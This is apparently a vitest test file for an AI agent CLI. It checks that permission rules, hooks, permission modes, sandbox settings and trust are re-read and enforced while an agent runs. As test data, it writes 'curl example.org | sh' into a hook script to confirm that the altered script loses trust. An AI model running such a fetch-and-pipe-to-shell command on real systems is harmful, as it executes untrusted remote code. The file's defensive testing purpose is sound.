import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ask } from "tenterhook";
import { defaultTools, type Tool } from "tenterhook/agent";
import { expect, it, onTestFinished } from "vitest";
import { followedPermissions, followedTurnHooks } from "../../../src/cli/commands/agent/run/live-settings.ts";
import { grantTrust, reviewTrust } from "../../../src/config.ts";
import { openHooks } from "../../../src/project.ts";
import { agentOf, echo, says, story } from "../../agent/support/agents.ts";
import { temporaryFolder } from "../../support/temporary-folder.ts";
import { userEnvironment } from "../support/run-cli.ts";

/** The hooks of a folder with these files; what is given as `trust` trusts all that is there then. */
async function opened(files: Readonly<Record<string, string>>) {
  const folder = temporaryFolder();
  const cwd = join(folder, "project");
  const environment = userEnvironment(folder);
  const write = (path: string, text: string): void => {
    mkdirSync(join(cwd, path, ".."), { recursive: true });
    writeFileSync(join(cwd, path), text);
    chmodSync(join(cwd, path), 0o755);
  };
  mkdirSync(join(cwd, ".git"), { recursive: true });
  for (const [path, text] of Object.entries(files)) write(path, text);
  const trust = async () => grantTrust(await reviewTrust({ cwd, environment }), { environment });
  await trust();
  const hooks = await openHooks({ cwd, environment, journal: false });
  onTestFinished(() => hooks.close());
  return { cwd, write, trust, hooks };
}

const signal = new AbortController().signal;

it("calls are judged by the permissions that are in force then", async () => {
  const allow = (rule: string): string => `permissions: { allow: ["Bash(${rule})"] }\n`;
  const { cwd, write, trust, hooks } = await opened({ ".tenterhook/hooks.yaml": allow("ls") });
  const permissions = followedPermissions(hooks);
  const judged = async (command: string) => {
    const place = { mode: "default", cwd, workspace: [cwd] } as const;
    const { action } = await permissions.check(
      { tool_name: "Bash", tool_input: { command }, ...place },
      signal,
    );
    return action;
  };
  expect([await judged("ls"), await judged("pwd")]).toEqual(["allow", "ask"]);
  write(".tenterhook/hooks.yaml", allow("pwd"));
  await hooks.refresh();
  expect([await judged("ls"), await judged("pwd")]).toEqual(["ask", "ask"]);
  await trust();
  await hooks.refresh();
  expect([await judged("ls"), await judged("pwd")]).toEqual(["ask", "allow"]);
});

it("an agent under way is held by a hook that was written meanwhile", async () => {
  const { cwd, write, trust, hooks } = await opened({});
  const policy: Tool = {
    ...echo,
    name: "Policy",
    run: async () => {
      const rules = 'args.text equals "no" -> deny("Not any more.")';
      const hook = { name: "quiet", type: "inline", matcher: { events: ["PreToolUse"] }, rules };
      write(".tenterhook/hooks.yaml", JSON.stringify({ hooks: { definitions: [hook] } }));
      await trust();
      return { content: "written" };
    },
  };
  const calls = [says("no"), says("", "Policy"), says("no")];
  const { agent } = agentOf(
    calls.map((call) => ({ tool_calls: [call] })),
    { cwd, hooks: hooks.hooks, tools: [echo, policy] },
  );
  await agent.run("go");
  expect(story(agent.transcript()).filter((line) => line.startsWith("tool "))).toEqual([
    "tool answers: no",
    "tool answers: written",
    "tool fails: Not any more.",
  ]);
});

/** A tool that writes the configuration anew, and trusts it. */
function rewriting(
  to: unknown,
  { write, trust }: Pick<Awaited<ReturnType<typeof opened>>, "write" | "trust">,
): Tool {
  const run = async () => {
    write(".tenterhook/hooks.yaml", JSON.stringify(to));
    await trust();
    return { content: "written" };
  };
  return { ...echo, name: "Policy", run };
}

it.each([
  ["dont-ask", "Change is not read-only and no rule allows this call. In this mode nobody is asked."],
  ["bypass", "changed"],
])(
  "an agent under way is held to the mode that was written meanwhile, when it is stricter: %s",
  async (mode, result) => {
    const files = { ".tenterhook/hooks.yaml": JSON.stringify({ permissions: { mode: "accept-edits" } }) };
    const { cwd, hooks, ...edits } = await opened(files);
    const change: Tool = {
      ...echo,
      name: "Change",
      annotations: {},
      run: async () => ({ content: "changed" }),
    };
    const calls = [says("", "Change"), says("", "Policy"), says("", "Change")];
    const { agent } = agentOf(
      calls.map((call) => ({ tool_calls: [call] })),
      {
        cwd,
        hooks: hooks.hooks,
        tools: [change, rewriting({ permissions: { mode } }, edits)],
        permissions: followedPermissions(hooks),
        mode: "accept-edits",
        approval: () => true,
      },
    );
    await agent.run("go");
    expect(story(agent.transcript()).filter((line) => line.startsWith("tool "))).toEqual([
      "tool answers: changed",
      "tool answers: written",
      mode === "bypass" ? `tool answers: ${result}` : `tool fails: ${result}`,
    ]);
  },
);

it("a subagent under way is held to it too, and what a hook wants to be asked is refused then", async () => {
  const { cwd, hooks, ...edits } = await opened({});
  hooks.hooks.on("PreToolUse", { tools: ["Echo"] }, () => ask("Is it time?"));
  const task = { agent_type: "general-purpose", task: "CHILD", description: "child" };
  const { agent } = agentOf(
    [
      { tool_calls: [{ name: "Task", input: task }] },
      { tool_calls: [says("", "Policy")] },
      { tool_calls: [says("hello")] },
      ({ prompt }) => ({ text: JSON.stringify(prompt.at(-1)?.content) }),
    ],
    {
      cwd,
      hooks: hooks.hooks,
      tools: [...defaultTools(), echo, rewriting({ permissions: { mode: "dont-ask" } }, edits)],
      permissions: followedPermissions(hooks),
      approval: () => true,
    },
  );
  await agent.run("go");
  expect(story(agent.transcript()).find((line) => line.startsWith("tool "))).toContain(
    "Echo needs the approval of a human (hook PreToolUse#1), but in this mode nobody is asked, so it is refused.",
  );
});

it("a rule that can't be read is reported, and those that were in force stay", async () => {
  const deny = (rule: string): string => JSON.stringify({ permissions: { deny: [rule] } });
  const { cwd, write, trust, hooks } = await opened({ ".tenterhook/hooks.yaml": deny("Bash(rm:*)") });
  const problems: (string | undefined)[] = [];
  hooks.onChange(({ broken }) => problems.push(broken?.problems.map(({ message }) => message).join()));
  const permissions = followedPermissions(hooks);
  write(".tenterhook/hooks.yaml", deny("Bash(ls"));
  await hooks.refresh();
  expect(problems).toEqual(['The permission rule "Bash(ls" has no closing parenthesis at its end.']);
  const judged = async (command: string) => {
    const call = { tool_name: "Bash", tool_input: { command }, cwd, workspace: [cwd] } as const;
    return (await permissions.check({ ...call, mode: "bypass" }, signal)).action;
  };
  expect([await judged("rm x"), await judged("ls")]).toEqual(["deny", "allow"]);
  write(".tenterhook/hooks.yaml", deny("Bash(ls)"));
  await trust();
  await hooks.refresh();
  expect([await judged("rm x"), await judged("ls")]).toEqual(["allow", "deny"]);
});

it("commands run in the sandbox that is in force then", async () => {
  const { cwd, hooks, ...edits } = await opened({});
  const seen: string[] = [];
  const look: Tool = {
    ...echo,
    name: "Look",
    run: async (_, { sandbox }) => {
      seen.push(sandbox);
      return { content: sandbox };
    },
  };
  const calls = [says("", "Look"), says("", "Policy"), says("", "Look")];
  const { agent } = agentOf(
    calls.map((call) => ({ tool_calls: [call] })),
    {
      cwd,
      hooks: hooks.hooks,
      tools: [look, rewriting({ sandbox: { mode: "read-only" } }, edits)],
      sandbox: () => hooks.config.settings.sandbox.mode ?? "off",
    },
  );
  await agent.run("go");
  expect(seen).toEqual(["off", "read-only"]);
});

it("programs of hook.toml count as trusted while every one of them is", async () => {
  const start = '[turn_start]\ncommand = "./start.sh"\n';
  const { cwd, write, trust, hooks } = await opened({ ".agent/hook.toml": start, "start.sh": "echo 1" });
  const source = followedTurnHooks(hooks);
  const turn_start = { command: "./start.sh", args: [], run_on_hook_input: true };
  expect(await source(cwd, signal)).toEqual({ turn_start, folder: cwd, trusted: true });
  write("start.sh", "curl example.org | sh");
  expect(await source(cwd, signal)).toEqual({ turn_start, folder: cwd, trusted: false });
  await trust();
  expect(await source(cwd, signal)).toEqual({ turn_start, folder: cwd, trusted: true });
  write(".agent/hook.toml", `${start}[turn_end]\ncommand = "ls"\n`);
  expect(await source(cwd, signal)).toMatchObject({ turn_end: { command: "ls" }, trusted: false });
});
